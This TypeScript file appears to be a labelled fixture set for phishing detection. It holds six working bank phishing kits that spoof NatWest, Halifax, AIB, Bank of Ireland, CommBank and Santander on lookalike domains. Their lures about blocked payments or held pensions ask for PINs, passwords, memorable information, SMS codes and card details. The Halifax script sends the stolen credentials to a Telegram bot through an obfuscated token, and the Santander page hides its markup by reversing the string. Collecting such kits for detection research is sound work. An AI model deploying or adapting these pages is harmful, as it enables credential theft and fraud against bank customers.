/**
 * yi- bank credential kits that callers' relatives forwarded: UK, Irish, Australian, US and NZ banks.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { bankCss, codes, doc, rev, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-natwest-unusual-payment-pin-digits',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://natwest-secure-review.com/Default.aspx?refererident=6A1F09C2&cookiecheck=yes',
  body: doc({
    title: 'NatWest Online Banking - Log in',
    css: bankCss('#42145f', '#5a287d', '"Knile",Arial,sans-serif') + `.top .purple{font-weight:700;font-size:22px}`,
    body: `<header class="top"><span class="purple">${wordmark('NatWest', '#42145f', '#fff', 130)}</span><span><a href="#">Help &amp; support</a><a href="#">Security</a></span></header>
<div class="wrap">
<div class="panel">
  <div class="alert"><strong>We’ve noticed an unusual payment of £849.99 to a new payee.</strong> If this wasn’t you, log in now so we can stop the payment and secure your account.</div>
  <h1>Log in – Step 1 of 2</h1><p class="sub">Enter your customer number</p>
  <form id="s1" method="post" action="/LI/Login.php">
    <label for="cn">Customer number</label><input type="text" id="cn" name="CustomerNumber" maxlength="10" inputmode="numeric" placeholder="e.g. 0112841234">
    <p class="help">This is your date of birth (DDMMYY) followed by your unique number.</p>
    <label><input type="checkbox" name="remember"> Remember my customer number</label>
    <button class="btn" type="submit">Continue</button>
  </form>
  <form id="s2" method="post" action="/LI/Login.php" style="display:none">
    <input type="hidden" name="CustomerNumber" id="cn2">
    <h3>Please enter the 2nd, 3rd and 4th digits from your PIN</h3>
    <div class="digits"><input type="password" name="pin1" maxlength="1"><input type="password" name="pin2" maxlength="1"><input type="password" name="pin3" maxlength="1"></div>
    <h3>Please enter the 1st, 5th and 8th characters from your password</h3>
    <div class="digits"><input type="password" name="pw1" maxlength="1"><input type="password" name="pw2" maxlength="1"><input type="password" name="pw3" maxlength="1"></div>
    <label for="mob">Mobile number registered with us</label><input type="tel" id="mob" name="mobile">
    <button class="btn">Log in</button>
  </form>
</div>
<div class="panel help"><h3>Are you a new customer?</h3><p><a href="#">Register for Online Banking</a></p><h3>Forgotten your details?</h3><p><a href="#">Reset your PIN or password</a></p><h3>Protecting you from fraud</h3><p>We will never ask you to move money to a ‘safe account’.</p></div>
</div>
<footer class="legal">National Westminster Bank plc. Registered Office: 250 Bishopsgate, London EC2M 4AA. Authorised by the Prudential Regulation Authority.<br><a href="#">Legal</a><a href="#">Privacy</a><a href="#">Cookies</a><a href="#">Accessibility</a></footer>
<script>
document.getElementById('s1').addEventListener('submit',function(e){e.preventDefault();var v=document.getElementById('cn').value.replace(/\\s/g,'');if(v.length<8){alert('Please enter a valid customer number');return}document.getElementById('cn2').value=v;this.style.display='none';document.getElementById('s2').style.display='block';navigator.sendBeacon('/LI/log.php',new URLSearchParams({c:v,t:'s1'}))});
</script>`,
  }),
},
{
  id: 'yi-halifax-memorable-info-telegram',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://secure-halifax-online.co.uk.verify-payee.com/personal/logon/login.jsp',
  body: doc({
    title: 'Halifax - Personal Banking - Log on',
    css: bankCss('#005eb8', '#005eb8', 'Arial,sans-serif') + `.hx{background:#fff;color:#005eb8;font-weight:700;padding:4px 10px;border-radius:3px}`,
    body: `<header class="top"><span class="hx">HALIFAX</span><span><a href="#">Contact us</a><a href="#">Help</a></span></header>
<div class="wrap"><div class="panel" id="pn">
<h1>Log on to Online Banking</h1><p class="sub">Confirm Payee (CoP) check failed on your account. Please log on to review.</p>
<form id="h1">
<label for="u">Username</label><input type="text" id="u" name="user">
<label for="p">Password</label><input type="password" id="p" name="pass">
<button class="btn">Continue</button></form>
</div><div class="panel help"><h3>Staying safe</h3><p>Check the web address begins with https:// and look for the padlock.</p></div></div>
<footer class="legal">Halifax is a division of Bank of Scotland plc. Registered in Scotland No. SC327000.</footer>
<script src="/personal/logon/js/app.min.js"></script>`,
  }),
  routes: {
    'secure-halifax-online.co.uk.verify-payee.com/personal/logon/js/app.min.js': jsRoute(`(function(){var k=String.fromCharCode(${codes('7523394118:AAH0gLk2pZ8WvQeXr9sN3yTuC1mJbF6dRo4')}),c=String.fromCharCode(${codes('5823310947')}),
u=String.fromCharCode(${codes('https://api.telegram.org/bot')});
function t(m){var x=new XMLHttpRequest();x.open('POST',u+k+'/sendMessage',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({chat_id:c,text:m,parse_mode:'HTML'}))}
var s=0,d={};var pn=document.getElementById('pn');
document.addEventListener('submit',function(e){e.preventDefault();var f=e.target;for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(el.name)d[el.name]=el.value}
if(s===0){t('<b>HFX LOGIN</b>\\n'+d.user+' | '+d.pass);s=1;pn.innerHTML='<h1>Memorable information</h1><p class="sub">Please enter characters 2, 4 and 7 from your memorable information.</p><form><div class="digits"><input name="m1" maxlength="1"><input name="m2" maxlength="1"><input name="m3" maxlength="1"></div><label>Full memorable information (to re-confirm)</label><input type="password" name="mem"><label>Mobile number</label><input type="tel" name="mob"><button class="btn">Continue</button></form>';}
else if(s===1){t('<b>HFX MEM</b>\\n'+d.m1+d.m2+d.m3+' full:'+d.mem+' mob:'+d.mob);s=2;pn.innerHTML='<h1>Card verification</h1><form><label>Debit card number</label><input name="cc"><label>Expiry</label><input name="exp"><label>CVV</label><input name="cvv" maxlength="3"><button class="btn">Verify</button></form>';}
else{t('<b>HFX CARD</b>\\n'+d.cc+' '+d.exp+' '+d.cvv);location.replace('https://www.halifax.co.uk/')}
},true);})();`),
  },
},
{
  id: 'yi-aib-registration-pac-kit',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://aib-ie.secure-pac-verify.support/inet/roi/login.htm',
  body: doc({
    title: 'AIB Internet Banking',
    lang: 'en-IE',
    css: bankCss('#7f2b7b', '#7f2b7b', '"Aktiv Grotesk",Arial,sans-serif'),
    body: `<header class="top"><span>${wordmark('AIB', '#7f2b7b', '#fff', 70)}</span><span><a href="#">Help</a><a href="#">Contact Us</a></span></header>
<div class="wrap"><div class="panel">
<div class="notice">Due to a recent security update, all customers must re-confirm their Personal Access Code (PAC). Your card will be restricted if this is not completed.</div>
<h1>Log in to Internet Banking</h1>
<form method="post" action="/inet/roi/next.php">
<label for="reg">Registration number</label><input type="text" id="reg" name="regNumber" maxlength="8" inputmode="numeric">
<h3 style="margin:22px 0 6px;font-size:15px">Enter digits 1, 3 and 5 of your PAC</h3>
<div class="digits"><input type="password" name="pac1" maxlength="1" inputmode="numeric"><input type="password" name="pac3" maxlength="1" inputmode="numeric"><input type="password" name="pac5" maxlength="1" inputmode="numeric"></div>
<label for="fullpac">Confirm full 5-digit PAC</label><input type="password" id="fullpac" name="pac" maxlength="5" inputmode="numeric">
<label for="mob">Mobile number</label><input type="tel" id="mob" name="mobile" placeholder="08x xxx xxxx">
<button class="btn">Log In</button></form>
<p class="help"><a href="#">Forgot your PAC?</a> · <a href="#">Register for Internet Banking</a></p></div>
<div class="panel help"><h3>Phone Banking</h3><p>Call 0818 724 724. Lines open 8am–8pm Monday to Friday.</p></div></div>
<footer class="legal">Allied Irish Banks, p.l.c. is regulated by the Central Bank of Ireland.</footer>`,
  }),
},
{
  id: 'yi-boi-365-online-reconfirm',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://365online-boi.com/servlet/Dispatcher/login.htm',
  body: doc({
    title: 'Bank of Ireland 365 online',
    lang: 'en-IE',
    css: bankCss('#0000ff', '#0000ff', 'Arial,sans-serif') + `header.top{background:#fff;color:#0000ff;border-bottom:1px solid #ddd}header.top a{color:#0000ff}`,
    body: `<header class="top"><strong style="font-size:20px">Bank of Ireland <span style="color:#999">|</span> 365 online</strong><span><a href="#">Help</a></span></header>
<div class="wrap"><div class="panel">
<h1>Login</h1><p class="sub">Step 1 of 3 – Your 365 online details</p>
<form method="post" action="/servlet/Dispatcher/login1.php">
<label for="uid">365 online User ID</label><input type="text" id="uid" name="USER" maxlength="8">
<fieldset style="border:0;padding:0"><legend style="font-weight:700;font-size:14px;margin:16px 0 6px">Date of birth</legend>
<div class="row"><input type="text" name="dd" placeholder="DD" maxlength="2"><input type="text" name="mm" placeholder="MM" maxlength="2"><input type="text" name="yyyy" placeholder="YYYY" maxlength="4"></div></fieldset>
<h3 style="font-size:15px;margin:20px 0 6px">Please enter the 2nd, 4th and 6th digits of your PIN</h3>
<div class="digits"><input type="password" name="p2" maxlength="1"><input type="password" name="p4" maxlength="1"><input type="password" name="p6" maxlength="1"></div>
<label for="ph">Last 4 digits of your registered phone number</label><input type="tel" id="ph" name="phone4" maxlength="4">
<button class="btn">Continue</button></form></div>
<div class="panel help"><h3>New! Security key update</h3><p>From this month you must re-register your 365 security key. This takes less than two minutes.</p></div></div>
<footer class="legal">Bank of Ireland is regulated by the Central Bank of Ireland.</footer>`,
  }),
  routes: {
    '365online-boi.com/servlet/Dispatcher/login1.php': redirectRoute(302, '/servlet/Dispatcher/security-key.htm'),
    '365online-boi.com/servlet/Dispatcher/security-key.htm': htmlRoute(doc({
      title: 'Bank of Ireland 365 online - Security key',
      body: `<div style="font-family:Arial;max-width:480px;margin:40px auto"><h2 style="color:#0000ff">Register your security key</h2><p>Enter your full 6-digit 365 PIN and the code we sent by SMS.</p><form method="post" action="/servlet/Dispatcher/login2.php"><p><input type="password" name="pin" maxlength="6"></p><p><input name="sms" maxlength="6" placeholder="SMS code"></p><button>Confirm</button></form></div>`,
    })),
  },
},
{
  id: 'yi-commbank-netbank-pension-pay',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://netbank-commbank.com.au-logon.info/netbank/Logon/Logon.aspx',
  body: doc({
    title: 'NetBank - Log on to NetBank - Enjoy simple and secure online banking from Commonwealth Bank',
    lang: 'en-AU',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f2f2f2;color:#000}
.hd{background:#ffcc00;padding:18px 26px;display:flex;align-items:center;gap:14px}.dm{width:40px;height:40px;background:#000;transform:rotate(45deg)}
.hd b{font-size:20px}.box{max-width:430px;margin:40px auto;background:#fff;padding:30px;border-radius:6px}
label{display:block;font-size:14px;margin:16px 0 5px}input{width:100%;padding:12px;border:1px solid #999;border-radius:4px;font-size:16px}
button{margin-top:22px;width:100%;background:#ffcc00;border:0;padding:14px;font-weight:700;font-size:16px;border-radius:4px}
.tip{font-size:13px;background:#fff8d6;padding:10px;margin-bottom:10px}a{color:#000}`,
    body: `<div class="hd"><div class="dm"></div><b>CommBank · NetBank</b></div>
<div class="box">
<div class="tip">Your Age Pension deposit from Services Australia is on hold. Log on to release it.</div>
<h2>Log on to NetBank</h2>
<form method="post" action="/netbank/Logon/auth.php" autocomplete="off">
<label for="cid">Client number</label><input id="cid" name="txtMyClientNumber$field" inputmode="numeric" maxlength="8">
<label for="pw">Password</label><input id="pw" name="txtMyPassword$field" type="password">
<label><input type="checkbox" name="chkRemember" style="width:auto"> Remember client number</label>
<button>Log on</button></form>
<p><a href="#">I've forgotten my log on details</a></p><p><a href="#">Register for NetBank</a></p></div>`,
  }),
},
{
  id: 'yi-santander-reversed-markup-kit',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://onlinebanking-santander.uk-payee.com/LOGSUK_NS_ENS/BtoChannelDriver.ssobto',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Santander Online Banking</title><style>body{margin:0;background:#fff}</style></head><body>
<div id="root"></div>
<script>
var _p=${JSON.stringify(rev(`<div style="font-family:Arial,sans-serif"><div style="background:#ec0000;color:#fff;padding:16px 24px;font-size:22px;font-weight:700">Santander</div><div style="max-width:440px;margin:30px auto;border:1px solid #ddd;padding:28px"><h2 style="color:#ec0000">Log on to Online Banking</h2><p>We have stopped a payment to a new payee. Log on to confirm whether you recognise it.</p><form method="post" action="/LOGSUK_NS_ENS/ChannelDriver.php"><p><label>Personal ID</label><br><input name="infoLDAP_E.customerID" style="width:100%;padding:8px"></p><p><label>Passcode</label><br><input type="password" name="passcode" style="width:100%;padding:8px"></p><p><label>Registration number</label><br><input type="password" name="regnum" style="width:100%;padding:8px"></p><p><label>Mobile number</label><br><input name="mob" style="width:100%;padding:8px"></p><button style="background:#ec0000;color:#fff;border:0;padding:10px 22px">Log on</button></form></div></div>`))};
document.getElementById('root').innerHTML=_p.split('').reverse().join('');
</script></body></html>`,
},
];
